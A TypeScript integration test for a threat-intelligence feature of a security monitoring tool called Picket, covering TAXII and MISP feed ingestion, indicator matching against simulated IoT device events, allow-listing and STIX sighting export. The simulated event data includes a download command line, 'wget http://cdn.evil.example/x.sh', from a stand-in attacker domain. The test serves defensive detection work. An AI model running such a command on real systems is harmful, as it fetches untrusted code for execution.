import { randomUUID } from "node:crypto";
import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { createRequire } from "node:module";
import { join } from "node:path";
import { type Client, openClient } from "@picket/api";
import { afterAll, beforeAll, expect, test } from "vitest";
import { eventually, type Picket, startPicket } from "./picket.js";

const require = createRequire(import.meta.url);
const { Message, ModuleClient } = require("azure-iot-device");
const { Mqtt } = require("azure-iot-device-mqtt");

let picket: Picket;
let api: Client;
let device: { sendEvent(message: unknown): Promise<void>; close(): Promise<void> };
let server: Server;
let origin: string;
/** What the feeds' server answers now. */
const feed = { isBroken: false, asked: [] as string[] };

const indicator = (value: string): object => ({
  type: "indicator",
  spec_version: "2.1",
  id: `indicator--${randomUUID()}`,
  created: "2026-01-01T00:00:00.000Z",
  modified: "2026-01-01T00:00:00.000Z",
  name: `C2 ${value}`,
  pattern: `[ipv4-addr:value = '${value}']`,
  pattern_type: "stix",
  valid_from: "2026-01-01T00:00:00Z",
  confidence: 90,
});

/** A TAXII 2.1 collection of two pages behind a password, and a MISP feed of one event. */
function answer(url: URL, authorization: string | undefined): { status: number; body: unknown } {
  if (feed.isBroken) return { status: 500, body: "<html>broken</html>" };
  if (url.pathname.endsWith("/objects/")) {
    if (authorization !== "Basic c2VjcmV0") return { status: 401, body: {} };
    return url.searchParams.get("next") === "2"
      ? { status: 200, body: { objects: [indicator("203.0.113.2")] } }
      : { status: 200, body: { more: true, next: "2", objects: [indicator("203.0.113.1")] } };
  }
  const id = "5b0c7a10-4d2e-4f31-9a6b-000000000001";
  if (url.pathname === "/misp/manifest.json") return { status: 200, body: { [id]: { info: "x" } } };
  if (url.pathname === `/misp/${id}.json`)
    return {
      status: 200,
      body: {
        Event: { info: "campaign", Attribute: [{ type: "domain", value: "evil.example", to_ids: true }] },
      },
    };
  return { status: 404, body: {} };
}

beforeAll(async () => {
  server = createServer((request, reply) => {
    const url = new URL(request.url ?? "/", "http://feed");
    feed.asked.push(`${url.pathname} ${request.headers.accept}`);
    const { status, body } = answer(url, request.headers.authorization);
    reply.writeHead(status, { "content-type": "application/taxii+json;version=2.1" });
    reply.end(typeof body === "string" ? body : JSON.stringify(body));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  origin = `http://127.0.0.1:${typeof address === "object" ? address?.port : 0}`;
  picket = await startPicket();
  const { token } = JSON.parse(readFileSync(join(picket.data, "server.json"), "utf8"));
  api = openClient({ origin: picket.origin, token, fetch });
  const { connection } = await api("POST /devices", { body: { id: "pump-7" } });
  device = ModuleClient.fromConnectionString(connection.connectionString, Mqtt);
  Reflect.get(device, "setOptions").call(device, { ca: picket.ca });
  await Reflect.get(device, "open").call(device);
});
afterAll(async () => {
  await device?.close();
  await picket?.stop();
  server?.close();
});

async function send(Name: string, item: object): Promise<void> {
  const at = new Date().toISOString();
  const event = {
    Id: randomUUID(),
    Name,
    Category: "Triggered",
    EventType: "Security",
    PayloadSchemaVersion: "1.0",
    IsEmpty: false,
    TimestampLocal: at,
    TimestampUTC: at,
    Payload: [item],
  };
  const body = { AgentVersion: "1.0.0", AgentId: randomUUID(), MessageSchemaVersion: "1.0", Events: [event] };
  const message = new Message(JSON.stringify(body));
  message.setAsSecurityMessage();
  await device.sendEvent(message);
}
const connect = (RemoteAddress: string): Promise<void> =>
  send("ConnectionCreate", {
    Executable: "/usr/bin/curl",
    ProcessId: 9,
    Direction: "Out",
    Protocol: "tcp",
    RemoteAddress,
    RemotePort: "443",
  });
const matched = async (): Promise<string[]> => {
  const rows = await picket.kql(
    "SecurityAlert | extend I = parse_json(Evidence)[0].Indicator | where isnotempty(tostring(I.Value)) | project V = tostring(I.Value)",
  );
  return rows.map(({ V }) => String(V)).sort();
};

test("a TAXII collection is read page by page, looked for in what is stored and in what comes", async () => {
  await connect("203.0.113.2");
  await eventually(async () => expect(await picket.kql("SecurityIoTRawEvent")).toHaveLength(1));
  const state = await api("PUT /intel/feeds/{name}", {
    params: { name: "taxii" },
    body: {
      kind: "taxii",
      url: `${origin}/api1/collections/91a7b528-80eb-42ed-a74d-c6fbd5a26116/`,
      authorization: "Basic c2VjcmV0",
      everyMinutes: 60,
    },
  });
  expect(state).toMatchObject({ indicators: 2, refused: 0 });
  expect(feed.asked.every((each) => each.endsWith("application/taxii+json;version=2.1"))).toBe(true);
  await eventually(async () => expect(await matched()).toEqual(["203.0.113.2"]));
  await connect("203.0.113.1");
  await eventually(async () => expect(await matched()).toEqual(["203.0.113.1", "203.0.113.2"]));
  expect(JSON.stringify(await api("GET /intel/feeds"))).not.toContain("c2VjcmV0");
});

test("a feed that breaks keeps its last good set and says why", async () => {
  feed.isBroken = true;
  const state = await api("POST /intel/feeds/{name}/refresh", { params: { name: "taxii" } });
  feed.isBroken = false;
  expect(state).toMatchObject({ indicators: 2, problem: expect.stringContaining("answered 500") });
  const { notices } = await api("GET /health");
  expect(notices).toContainEqual(expect.objectContaining({ code: "FEED_BROKEN" }));
  expect(await picket.kql("ThreatIntelligenceIndicator | where Active | project NetworkIP")).toHaveLength(2);
});

test("a MISP feed and an import are in force at once, and the allow-list wins", async () => {
  const misp = await api("PUT /intel/feeds/{name}", {
    params: { name: "misp" },
    body: { kind: "misp", url: `${origin}/misp/`, everyMinutes: 60 },
  });
  expect(misp).toMatchObject({ indicators: 1 });
  const brought = await api("POST /intel/feeds/{name}/import", {
    params: { name: "brought" },
    body: { format: "list", content: "198.51.100.0/24\nnonsense\n" },
  });
  expect(brought).toMatchObject({ indicators: 1, refused: 1, firstRefused: [{ line: 2 }] });
  await api("PUT /intel/allowed", { body: { value: "198.51.100.7", isAllowed: true, reason: "ours" } });
  await send("ProcessCreate", {
    Executable: "/usr/bin/wget",
    ProcessId: 9,
    ParentProcessId: 1,
    UserId: "0",
    CommandLine: "wget http://cdn.evil.example/x.sh",
  });
  await connect("198.51.100.7");
  await connect("198.51.100.8");
  await eventually(async () => expect(await matched()).toContain("198.51.100.8"));
  expect(await matched()).toContain("evil.example");
  expect(await matched()).not.toContain("198.51.100.7");
});

test("what was seen is told as a STIX bundle", async () => {
  const bundle = await api("GET /intel/sightings");
  const kinds = bundle.objects.map((object) => Reflect.get(Object(object), "type"));
  expect(kinds.filter((kind) => kind === "sighting").length).toBeGreaterThanOrEqual(4);
});
